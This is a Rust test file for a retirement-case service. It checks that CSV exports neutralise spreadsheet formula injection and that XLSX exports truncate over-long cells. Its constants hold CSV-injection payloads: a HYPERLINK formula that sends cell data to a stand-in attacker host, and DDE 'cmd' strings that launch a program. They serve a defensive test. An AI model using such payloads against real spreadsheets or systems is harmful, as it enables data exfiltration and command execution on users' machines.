//! What the service writes into spreadsheets, with hostile values stored (issue 14): every
//! CSV it serves (push tables, the dashboard) defuses cells a spreadsheet would run as
//! formulas while figures stay figures, and an XLSX export of a text longer than one Excel
//! cell (stored before input limits existed) is cut with a visible marker instead of
//! answering 500. Downloads go over HTTP; runs on SQLite and on PostgreSQL.

use std::io::Read as _;
use std::sync::Arc;

use lianban::accounts::Role;
use lianban::runtime::CaseId;
use lianban::scheduler::ManualClock;
use lianban::service::Engine;
use lianban_tests::retirement::{PROCESS, application, complete_step, reviewer, window};
use lianban_tests::web::{Clerk, TestApp};
use lianban_tests::{Backend, TestDb, db_test};
use serde_json::{Value, json};

use crate::schedules::{beijing, bytes, fire, processes};

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&C2,"点击查看")"#;
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS: &str = "-2+3";

const MATERIALS: [&str; 9] = [
    "application",
    "id_card",
    "photos",
    "personnel_file",
    "bank_card",
    "confirmation_form",
    "roster",
    "publicity_form",
    "fund_change_list",
];

/// Starts a retirement of `name` working at `employer`, asking for the 医保 item.
async fn start(engine: &Engine, name: &str, employer: &str, id: &str) -> anyhow::Result<CaseId> {
    let mut form = application(name, id, true, false);
    form.insert("employer".into(), json!(employer));
    Ok(engine
        .start_case(
            PROCESS,
            form,
            MATERIALS.map(String::from).to_vec(),
            &window(),
        )
        .await?)
}

/// Accepts and confirms the case, so that Monday's 医保 push table lists it.
async fn confirm(engine: &Engine, case: CaseId) -> anyhow::Result<()> {
    complete_step(engine, case, "accept", "accept", json!({}), &window()).await?;
    let confirmed = json!({"retirement_date": "2025-02", "pension_monthly": 3000});
    complete_step(engine, case, "confirm", "confirm", confirmed, &reviewer()).await
}

/// Refuses the case at 受理 with `reason`.
async fn refuse(engine: &Engine, case: CaseId, reason: &str) -> anyhow::Result<()> {
    let task = engine
        .list_tasks(&lianban::store::TaskQuery {
            case: Some(case),
            ..Default::default()
        })
        .await?
        .into_iter()
        .next()
        .ok_or_else(|| anyhow::anyhow!("no task"))?;
    engine.claim(task.id, &window()).await?;
    engine
        .complete(
            task.id,
            &window(),
            "reject",
            serde_json::Map::new(),
            Some(reason.to_owned()),
        )
        .await?;
    Ok(())
}

/// The app on the 阳城 definition, on Monday 2026-11-30 09:30.
async fn app(db: &TestDb) -> anyhow::Result<(TestApp, Arc<ManualClock>, tempfile::TempDir)> {
    let dir = processes(|t| t)?;
    let clock = Arc::new(ManualClock::new(beijing(2026, 11, 30, 9, 30)));
    let app = TestApp::start_with_clock(
        db,
        dir.path().to_str().unwrap_or_default(),
        clock.clone(),
        |_| {},
    )
    .await?;
    Ok((app, clock, dir))
}

/// The ids of the push tables `clerk` sees.
async fn push_tables(app: &TestApp, clerk: &Clerk) -> anyhow::Result<Vec<String>> {
    let (status, _, body) = bytes(app, &clerk.session, "/api/v1/push-tables").await?;
    anyhow::ensure!(status == 200, "push tables: {status}");
    let list: Value = serde_json::from_slice(&body)?;
    Ok(list
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|t| t["id"].as_str().map(str::to_owned))
        .collect())
}

/// Every cell of a CSV download (after its byte-order mark).
fn cells(csv: &[u8]) -> anyhow::Result<Vec<Vec<String>>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.get(3..).unwrap_or_default());
    Ok(reader
        .records()
        .map(|r| r.map(|r| r.iter().map(str::to_owned).collect()))
        .collect::<Result<_, _>>()?)
}

/// The cells a spreadsheet would run: a leading `= + - @`, tab or CR, other than a plain
/// number.
fn live_formulas(rows: &[Vec<String>]) -> Vec<String> {
    rows.iter()
        .flatten()
        .filter(|cell| {
            cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
        })
        .cloned()
        .collect()
}

db_test!(csv_downloads_defuse_formulas_and_keep_figures, |db| {
    let (app, clock, _dir) = app(&db).await?;
    let engine = app.app.engine();
    // Names and employers as a hostile applicant writes them: ordinary text to the form.
    let first = start(engine, HYPERLINK, CMD, "140522196203041018").await?;
    confirm(engine, first).await?;
    let second = start(engine, SUM, MINUS, "14052219640923101X").await?;
    confirm(engine, second).await?;
    let reasons = [HYPERLINK, MINUS, SUM, "\t=1+1"];
    let ids = [
        "140522196312120014",
        "140522196412150317",
        "140522196501150319",
        "140522196504150314",
    ];
    for (reason, id) in reasons.into_iter().zip(ids) {
        let case = start(engine, "张三", "阳城县某煤业有限公司", id).await?;
        refuse(engine, case, reason).await?;
    }
    clock.set(beijing(2026, 11, 30, 16, 0));
    assert_eq!(fire(engine, beijing(2026, 11, 30, 17, 0)).await?.len(), 1);

    let lead = app.clerk("boss", "shebao", Role::Supervisor).await?;
    let tables = push_tables(&app, &lead).await?;
    assert!(!tables.is_empty());
    let mut seen = Vec::new();
    for id in &tables {
        let (status, _, csv) =
            bytes(&app, &lead.session, &format!("/push-tables/{id}.csv")).await?;
        assert_eq!(status, 200);
        let rows = cells(&csv)?;
        assert_eq!(
            live_formulas(&rows),
            Vec::<String>::new(),
            "push table {id}"
        );
        seen.extend(rows.into_iter().flatten());
    }
    for hostile in [HYPERLINK, CMD, SUM, MINUS] {
        assert!(
            seen.contains(&format!("'{hostile}")),
            "{hostile} is kept as text: {seen:?}"
        );
    }

    let (status, _, csv) = bytes(&app, &lead.session, "/dashboard.csv?period=this_month").await?;
    assert_eq!(status, 200);
    let rows = cells(&csv)?;
    assert_eq!(live_formulas(&rows), Vec::<String>::new());
    let values: Vec<&str> = rows
        .iter()
        .filter_map(|r| r.get(4))
        .map(String::as_str)
        .collect();
    for reason in [HYPERLINK, MINUS, SUM] {
        assert!(
            values.contains(&format!("'{reason}").as_str()),
            "{reason}: {values:?}"
        );
    }
    assert!(values.contains(&"'\t=1+1"), "{values:?}");
    // The figures stay numbers: four refusals at 受理.
    let refusals = rows
        .iter()
        .find(|r| r.get(2).is_some_and(|c| c == "不予办理件数"))
        .and_then(|r| r.get(4))
        .cloned();
    assert_eq!(refusals.as_deref(), Some("4"), "{rows:?}");
    Ok(())
});

/// Replaces `marker` in every stored case state with `text`, as a value written before the
/// input limits existed would be stored.
async fn store_directly(db: &TestDb, marker: &str, text: &str) -> anyhow::Result<()> {
    let conn = sea_orm::Database::connect(&db.url).await?;
    let sql = match db.backend {
        Backend::Sqlite => {
            format!("UPDATE cases SET state = replace(state, '{marker}', '{text}')")
        }
        Backend::Postgres => {
            format!("UPDATE cases SET state = replace(state::text, '{marker}', '{text}')::jsonb")
        }
    };
    use sea_orm::ConnectionTrait as _;
    conn.execute_unprepared(&sql).await?;
    conn.close().await?;
    Ok(())
}

/// The shared strings of an XLSX download.
fn strings(xlsx: Vec<u8>) -> anyhow::Result<String> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx))?;
    let mut strings = String::new();
    zip.by_name("xl/sharedStrings.xml")?
        .read_to_string(&mut strings)?;
    Ok(strings)
}

db_test!(xlsx_downloads_cut_texts_longer_than_a_cell, |db| {
    let (app, clock, _dir) = app(&db).await?;
    let engine = app.app.engine();
    let long = start(
        engine,
        "长名字标记",
        "阳城县某煤业有限公司",
        "140522196203041018",
    )
    .await?;
    confirm(engine, long).await?;
    let refused = start(engine, "张三", "阳城县某煤业有限公司", "140522196607082035").await?;
    refuse(engine, refused, "长理由标记").await?;
    // The issue's cases: a 40,000-character name and a 900 KB refusal reason, stored
    // through no check of today's.
    store_directly(&db, "长名字标记", &"名".repeat(40_000)).await?;
    store_directly(&db, "长理由标记", &"x".repeat(900_000)).await?;
    clock.set(beijing(2026, 11, 30, 16, 0));
    assert_eq!(fire(engine, beijing(2026, 11, 30, 17, 0)).await?.len(), 1);

    let lead = app.clerk("boss", "shebao", Role::Supervisor).await?;
    let tables = push_tables(&app, &lead).await?;
    let mut cut = 0;
    for id in &tables {
        let (status, kind, xlsx) =
            bytes(&app, &lead.session, &format!("/push-tables/{id}.xlsx")).await?;
        assert_eq!(status, 200, "push table {id}");
        assert!(kind.starts_with("application/vnd.openxmlformats"), "{kind}");
        if strings(xlsx)?.contains("原文共 40000 字") {
            cut += 1;
        }
        let (status, _, csv) =
            bytes(&app, &lead.session, &format!("/push-tables/{id}.csv")).await?;
        assert_eq!(status, 200);
        assert!(
            String::from_utf8(csv)?.contains(&"名".repeat(40_000)),
            "CSV keeps it whole"
        );
    }
    assert_eq!(cut, 1, "the 医保 table lists the long name once");

    let (status, _, xlsx) = bytes(&app, &lead.session, "/dashboard.xlsx?period=this_month").await?;
    assert_eq!(status, 200);
    let shared = strings(xlsx)?;
    assert!(
        shared.contains("原文共 900000 字"),
        "the reason is cut with a marker"
    );
    assert!(!shared.contains(&"x".repeat(32_767)));
    let (status, _, _) = bytes(&app, &lead.session, "/dashboard.csv?period=this_month").await?;
    assert_eq!(status, 200);
    Ok(())
});
